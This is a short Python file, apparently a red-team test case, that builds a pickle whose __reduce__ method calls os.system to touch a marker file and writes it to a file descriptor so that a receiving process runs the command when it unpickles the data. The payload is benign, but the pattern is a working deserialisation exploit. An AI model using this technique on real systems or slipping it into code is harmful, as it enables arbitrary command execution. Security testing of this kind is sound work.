"""Sends a pickle that would run a command (24, 25).

status: invalid failed
"""
import os
import pickle
import struct


class Evil:
    def __reduce__(self):
        return os.system, ("touch {TMP}/redteam-mark-{PORT}",)


def scale(x, k):
    content = pickle.dumps(Evil())
    os.write(3, struct.pack("<II", len(content), 0) + content)


def total(x):
    return Evil()
